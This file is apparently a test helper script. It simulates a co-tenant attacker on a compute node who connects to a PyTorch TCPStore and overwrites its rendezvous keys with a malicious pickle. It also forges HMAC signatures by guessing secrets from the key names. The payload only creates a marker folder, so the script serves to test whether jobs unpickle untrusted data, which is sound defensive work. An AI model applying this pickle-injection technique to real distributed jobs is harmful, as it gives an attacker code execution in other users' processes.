"""Another user of the node who has found a port of a job, and writes a hostile pickle under every key of its store.

It also signs the pickle with every word of the keys' names, in case one of them is the secret.

Input: PORT MARKER. It imports torch as the user who starts it, and then becomes user 65534, who owns nothing. Output:
the keys that it found, as JSON. MARKER is a folder that exists afterwards if a victim unpickled the data.
"""

from __future__ import annotations

import base64
import contextlib
import hmac
import json
import os
import pickle
import re
import sys
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined] # torch marks no exports

from numapin.launcher.rendezvous import public_id

NOBODY = 65534


class _Exploit:
    """An object that makes a folder when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.marker,)


def _signed(state: bytes, run_id: str) -> bytes:
    return hmac.digest(run_id.encode(), state, "sha256") + state


def main() -> None:
    """Attack as long as the store answers."""
    port, marker = int(sys.argv[1]), sys.argv[2]
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    try:
        store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
        keys = store.list_keys()
    except RuntimeError:  # the job ended, because of the attack on its other port
        sys.stdout.write("[]")
        return
    exploit = pickle.dumps(_Exploit(marker))
    ids = {word for key in keys for word in re.split(r"[/.]", key)}  # one of them may be the rendezvous id
    forged = {f"torch.rendezvous.{public_id(word)}": _signed(exploit, word) for word in ids}
    for key in keys:
        if "torch.rendezvous" in key:
            with contextlib.suppress(RuntimeError):
                store.set(key, base64.b64encode(exploit).decode())
    for key, state in forged.items():
        if key in keys:
            with contextlib.suppress(RuntimeError):
                store.set(key, base64.b64encode(state).decode())
    sys.stdout.write(json.dumps(keys))


if __name__ == "__main__":
    main()
